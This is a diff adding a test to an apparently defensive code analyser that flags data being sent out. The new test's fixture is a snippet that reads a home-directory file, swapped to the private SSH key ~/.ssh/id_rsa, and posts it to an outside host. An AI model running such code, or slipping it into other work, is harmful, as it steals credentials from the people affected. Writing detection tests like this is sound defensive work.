@@ -85,3 +85,14 @@ def test_a_document_that_functions_put_together() -> None:
     )
     assert any("PrivilegeChange" in line for line in shown(code.replace("ALL", "*")))
     assert not any("PrivilegeChange" in line for line in shown(code))
+
+
+def test_files_that_a_loop_collects() -> None:
+    code = (
+        "def collect():\n    out = {}\n    for name in ('NAME', '.vimrc'):\n"
+        "        with open(os.path.join(os.path.expanduser('~'), name)) as file:\n"
+        "            out[name] = file.read()\n    return out\n"
+        "requests.post('https://sync.acme.io', json=collect())\n"
+    )
+    assert "sends=file ~/.ssh/id_rsa" in sent(code.replace("NAME", ".ssh/id_rsa"))[0]
+    assert "sends" not in sent(code.replace("NAME", ".bashrc"))[0]
